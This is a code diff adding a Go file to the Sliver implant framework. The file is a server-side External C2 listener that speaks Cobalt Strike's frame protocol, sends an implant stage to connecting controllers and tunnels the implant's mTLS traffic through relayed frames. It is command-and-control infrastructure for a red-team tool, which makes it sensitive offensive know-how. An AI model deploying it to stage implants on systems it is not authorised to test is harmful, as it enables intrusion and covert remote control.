@@ -0,0 +1,266 @@
+package c2
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/server/certs"
+	"github.com/bishopfox/sliver/server/core"
+	"github.com/bishopfox/sliver/server/log"
+)
+
+// Cobalt Strike's External C2 specification: a third-party controller connects to the
+// listener, sends its options (e.g. "arch=x64", "pipename=foo", "block=100") as frames
+// followed by "go", and receives the stage. From then on it relays frames between the
+// listener and its channel's client on the target, which talks to the implant. Frames
+// are a 4 byte little endian length followed by the data, every frame is answered
+// with exactly one frame (which may be empty).
+//
+// Sliver runs its mTLS protocol over the frames, implants generated with an extc2 C2
+// accept the channel client's connection on the target.
+
+const (
+	// extC2OptionsGo - The option frame that ends the options
+	extC2OptionsGo = "go"
+	// extC2MaxOptions - Controllers send a handful of options, this is a sanity limit
+	extC2MaxOptions = 64
+	// extC2MaxFrameSize - Largest frame accepted from a controller
+	extC2MaxFrameSize = 16 * 1024 * 1024
+	// extC2ResponseDelay - How long to wait for the response to a frame before
+	// answering with an empty frame, the rest is sent with the next answer
+	extC2ResponseDelay = 100 * time.Millisecond
+)
+
+var (
+	extC2Log = log.NamedLogger("c2", consts.ExternalC2Str)
+
+	// ErrFrameTooLarge - The frame's length exceeds the maximum frame size
+	ErrFrameTooLarge = errors.New("frame too large")
+)
+
+// StartExternalC2Listener - Start an External C2 listener, the stage (if any) is sent
+// to controllers once they've sent their options
+func StartExternalC2Listener(bindIface string, port uint16, stage []byte, policy *StagePolicy, drain *core.Drain) (net.Listener, error) {
+	extC2Log.Infof("Starting External C2 listener on %s:%d", bindIface, port)
+	host := bindIface
+	if host == "" {
+		host = defaultServerCert
+	}
+	_, _, err := certs.GetCertificate(certs.MtlsServerCA, certs.ECCKey, host)
+	if err != nil {
+		certs.MtlsC2ServerGenerateECCCertificate(host)
+	}
+	ln, err := net.Listen("tcp", fmt.Sprintf("%s:%d", bindIface, port))
+	if err != nil {
+		extC2Log.Error(err)
+		return nil, err
+	}
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				if errType, ok := err.(*net.OpError); ok && errType.Op == "accept" {
+					break // Listener was closed by the user
+				}
+				extC2Log.Errorf("Accept failed: %v", err)
+				continue
+			}
+			go handleExternalC2Connection(conn, host, stage, policy, drain)
+		}
+	}()
+	return ln, nil
+}
+
+func handleExternalC2Connection(conn net.Conn, host string, stage []byte, policy *StagePolicy, drain *core.Drain) {
+	options, err := ReadExternalC2Options(conn)
+	if err != nil {
+		extC2Log.Errorf("Failed to read options from %s: %s", conn.RemoteAddr(), err)
+		conn.Close()
+		return
+	}
+	extC2Log.Infof("External C2 controller %s connected %v", conn.RemoteAddr(), options)
+	// Without a stage the channel's client has to start the implant itself
+	if 0 < len(stage) && !policy.Fetch(consts.ExternalC2Str, conn.RemoteAddr().String(), conn.RemoteAddr().String(), "", options["pipename"]) {
+		stage = nil
+	}
+	err = WriteFrame(conn, stage)
+	if err != nil {
+		extC2Log.Errorf("Failed to send stage to %s: %s", conn.RemoteAddr(), err)
+		conn.Close()
+		return
+	}
+	frames := newExternalC2Conn(conn)
+	handleSliverConnection(tls.Server(frames, getServerTLSConfig(host)), drain)
+}
+
+// ReadExternalC2Options - Read "key=value" option frames until "go"
+func ReadExternalC2Options(r io.Reader) (map[string]string, error) {
+	options := map[string]string{}
+	for count := 0; count < extC2MaxOptions; count++ {
+		frame, err := ReadFrame(r)
+		if err != nil {
+			return nil, err
+		}
+		option := strings.TrimRight(string(frame), "\x00")
+		if option == extC2OptionsGo {
+			return options, nil
+		}
+		key, value, _ := strings.Cut(option, "=")
+		options[key] = value
+	}
+	return nil, errors.New("too many options")
+}
+
+// ReadFrame - Read a length prefixed frame
+func ReadFrame(r io.Reader) ([]byte, error) {
+	lengthBuf := make([]byte, 4)
+	_, err := io.ReadFull(r, lengthBuf)
+	if err != nil {
+		return nil, err
+	}
+	length := binary.LittleEndian.Uint32(lengthBuf)
+	if extC2MaxFrameSize < length {
+		return nil, ErrFrameTooLarge
+	}
+	frame := make([]byte, length)
+	_, err = io.ReadFull(r, frame)
+	return frame, err
+}
+
+// WriteFrame - Write a length prefixed frame
+func WriteFrame(w io.Writer, data []byte) error {
+	frame := make([]byte, 4+len(data))
+	binary.LittleEndian.PutUint32(frame, uint32(len(data)))
+	copy(frame[4:], data)
+	_, err := w.Write(frame)
+	return err
+}
+
+// externalC2Conn - A stream over frames relayed by a controller, the implant sends
+// the first frame and the listener answers every frame with one frame
+type externalC2Conn struct {
+	net.Conn
+
+	inbound       *io.PipeReader
+	inboundWriter *io.PipeWriter
+
+	mutex    *sync.Mutex
+	outbound *bytes.Buffer
+	notify   chan struct{}
+	closed   chan struct{}
+	once     *sync.Once
+}
+
+func newExternalC2Conn(conn net.Conn) *externalC2Conn {
+	reader, writer := io.Pipe()
+	frames := &externalC2Conn{
+		Conn:          conn,
+		inbound:       reader,
+		inboundWriter: writer,
+		mutex:         &sync.Mutex{},
+		outbound:      &bytes.Buffer{},
+		notify:        make(chan struct{}, 1),
+		closed:        make(chan struct{}),
+		once:          &sync.Once{},
+	}
+	go frames.relay()
+	return frames
+}
+
+func (c *externalC2Conn) relay() {
+	defer c.Close()
+	for {
+		frame, err := ReadFrame(c.Conn)
+		if err != nil {
+			return
+		}
+		if 0 < len(frame) {
+			if _, err = c.inboundWriter.Write(frame); err != nil {
+				return
+			}
+		}
+		if err = WriteFrame(c.Conn, c.takeOutbound(extC2ResponseDelay)); err != nil {
+			return
+		}
+	}
+}
+
+// takeOutbound - The data written since the last frame, waits up to the delay for data
+func (c *externalC2Conn) takeOutbound(delay time.Duration) []byte {
+	timer := time.NewTimer(delay)
+	defer timer.Stop()
+	for {
+		c.mutex.Lock()
+		if 0 < c.outbound.Len() {
+			data := append([]byte{}, c.outbound.Bytes()...)
+			c.outbound.Reset()
+			c.mutex.Unlock()
+			return data
+		}
+		c.mutex.Unlock()
+		select {
+		case <-c.notify:
+		case <-timer.C:
+			return []byte{}
+		case <-c.closed:
+			return []byte{}
+		}
+	}
+}
+
+func (c *externalC2Conn) Read(p []byte) (int, error) {
+	return c.inbound.Read(p)
+}
+
+func (c *externalC2Conn) Write(p []byte) (int, error) {
+	select {
+	case <-c.closed:
+		return 0, net.ErrClosed
+	default:
+	}
+	c.mutex.Lock()
+	c.outbound.Write(p)
+	c.mutex.Unlock()
+	select {
+	case c.notify <- struct{}{}:
+	default:
+	}
+	return len(p), nil
+}
+
+func (c *externalC2Conn) Close() error {
+	var err error
+	c.once.Do(func() {
+		close(c.closed)
+		c.inboundWriter.Close()
+		err = c.Conn.Close()
+	})
+	return err
+}